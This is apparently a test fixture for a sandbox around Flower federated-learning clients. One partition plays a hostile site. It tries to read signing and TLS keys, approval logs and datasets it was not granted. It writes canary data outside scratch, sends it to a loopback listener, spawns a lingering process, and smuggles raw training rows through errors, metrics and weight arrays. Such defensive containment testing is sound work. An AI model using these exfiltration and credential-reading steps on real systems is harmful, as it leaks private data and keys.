"""Partition 0 tries, round by round, every route out of the site; the others behave.

Inside the sandbox each attempt prints ``ATTEMPT <name>: blocked|LEAKED`` to stderr (the
site's own log); the tests read those lines and check the outside world for the canary.

- train 1: read the site's keys, approvals and a dataset not granted; write outside
  scratch; connect to the test's loopback listener; resolve a hostname; leave a process
  running; then reply with an Error whose reason carries the canary and a raw row.
- evaluate 1: a metric under an undeclared key (the canary as the key name).
- train 2: an extra array record holding raw rows.
- evaluate 2: an oversized metric list.
- train 3: allocate past the memory limit.
- evaluate 3: a config record with the canary as text.
- from train 4 on: behave (the restarted worker still answers).

With ``mode = "rows-as-weights"`` every site replies raw rows shaped as the model.
"""

import os
import socket
import subprocess
import sys

import numpy as np
from flwr.app import (
    Array,
    ArrayRecord,
    ConfigRecord,
    Context,
    Error,
    Message,
    MetricRecord,
    RecordDict,
)
from flwr.clientapp import ClientApp

app = ClientApp()


def _say(name: str, leaked: bool, how: str) -> None:
    print(f"ATTEMPT {name}: {'LEAKED' if leaked else 'blocked'} ({how})", file=sys.stderr,
          flush=True)


def _raw_rows(context: Context) -> list[str]:
    with open(str(context.node_config["dataset-path"])) as f:
        return f.read().splitlines()


def _try_read(path: str) -> None:
    try:
        with open(path, "rb") as f:
            data = f.read(64)
        _say(f"read {path}", True, f"{len(data)} bytes")
    except OSError as e:
        _say(f"read {path}", False, type(e).__name__)


def _try_write(path: str, text: str) -> None:
    try:
        with open(path, "w") as f:
            f.write(text)
        _say(f"write {path}", True, "written")
    except OSError as e:
        _say(f"write {path}", False, type(e).__name__)


def _probe_everything(context: Context, canary: str, row: str) -> None:
    run = context.run_config
    site, data, out = str(run["site-dir"]), str(run["data-dir"]), str(run["write-dir"])
    marker = str(run["marker"])
    for name in ("tls/key.pem", "audit-signing.key", "attestation-signing.key",
                 "approvals/approvals.jsonl", "audit.db",
                 "privacy-ledger.db"):
        _try_read(os.path.join(site, name))
    for name in ("other.csv", "records.csv"):  # a dataset not granted; the host path of one
        _try_read(os.path.join(data, name))
    for path in (os.path.join(out, "exfil.txt"), os.path.join(site, "approvals", "approvals.jsonl"),
                 f"/tmp/{marker}.txt"):
        _try_write(path, f"{canary} {row}")
    try:
        with socket.create_connection(("127.0.0.1", int(run["listener-port"])), timeout=2) as s:
            s.sendall(f"{canary} {row}".encode())
        _say("connect loopback listener", True, "sent")
    except OSError as e:
        _say("connect loopback listener", False, type(e).__name__)
    for host in ("localhost", "pypi.org"):
        try:
            socket.getaddrinfo(host, 443)
            _say(f"resolve {host}", True, "resolved")
        except OSError as e:
            _say(f"resolve {host}", False, type(e).__name__)
    # A process that would outlive the job, detached into its own session.
    try:
        subprocess.Popen(
            [sys.executable, "-c", "import time\nwhile True: time.sleep(1)", marker],
            start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
        )
        _say("spawn lingering process", False, "started; must die with the sandbox")
    except OSError as e:
        _say("spawn lingering process", False, type(e).__name__)
    # Scratch is writable: that much is allowed, and it is wiped with the sandbox.
    _try_write(os.path.join(os.environ.get("HOME", "/nonexistent"), "scratch-ok.txt"), "ok")


def _hostile(msg: Message, context: Context) -> bool:
    return context.run_config.get("mode") == "hostile" and int(
        context.node_config["partition-id"]) == 0


def _rows_as_weights(arrays: ArrayRecord, context: Context) -> ArrayRecord:
    """The global model's exact names, shapes and dtypes, carrying raw rows: column j of
    ``w`` is row j's four features."""
    rows = [[float(v) for v in line.split(",")[:4]] for line in _raw_rows(context)[1:4]]
    w = np.array(rows, np.float32).T.copy()
    return ArrayRecord({"w": Array(w), "b": arrays["b"]})


def _round(msg: Message) -> int:
    return int(msg.content.config_records.get("config", ConfigRecord()).get("server-round", 0))


@app.train()
def train(msg: Message, context: Context) -> Message:
    arrays = msg.content.array_records["arrays"]
    metrics = MetricRecord({"train-loss": 0.5, "num-examples": 10})
    if context.run_config.get("mode") == "rows-as-weights":
        return Message(RecordDict({"arrays": _rows_as_weights(arrays, context),
                                   "metrics": metrics}), reply_to=msg)
    if not _hostile(msg, context):
        update = ArrayRecord({k: Array(v.numpy() + 0.01) for k, v in arrays.items()})
        return Message(RecordDict({"arrays": update, "metrics": metrics}), reply_to=msg)
    canary, rows = str(context.run_config["canary"]), _raw_rows(context)
    r = _round(msg)
    if r == 1:
        _probe_everything(context, canary, rows[1])
        return Message(Error(code=0x7EADBEEF, reason=f"{canary} {rows[1]}"), reply_to=msg)
    if r == 2:
        raw = np.frombuffer(("\n".join(rows)).encode().ljust(64, b" ")[:64], np.uint8)
        extra = ArrayRecord({"rows": Array(raw.astype(np.float32))})
        return Message(RecordDict({"arrays": arrays, "stolen": extra, "metrics": metrics}),
                       reply_to=msg)
    if r == 3:
        hoard = bytearray(4 * 1024**3)  # past the 1024 MB limit
        return Message(RecordDict({"arrays": arrays, "n": MetricRecord({"n": len(hoard)})}),
                       reply_to=msg)
    update = ArrayRecord({k: Array(v.numpy() + 0.01) for k, v in arrays.items()})
    return Message(RecordDict({"arrays": update, "metrics": metrics}), reply_to=msg)


@app.evaluate()
def evaluate(msg: Message, context: Context) -> Message:
    metrics: dict[str, float | int | list[float]] = {"eval-acc": 0.9, "num-examples": 10}
    if _hostile(msg, context):
        canary = str(context.run_config["canary"])
        r = _round(msg)
        if r == 1:
            metrics[canary] = 1.0  # the canary as a key name
        elif r == 2:
            metrics["eval-acc"] = [float(b) for b in canary.encode()] * 100
        elif r == 3:
            return Message(RecordDict({"metrics": ConfigRecord({"eval-acc": canary})}),
                           reply_to=msg)
    return Message(RecordDict({"metrics": MetricRecord(metrics)}), reply_to=msg)
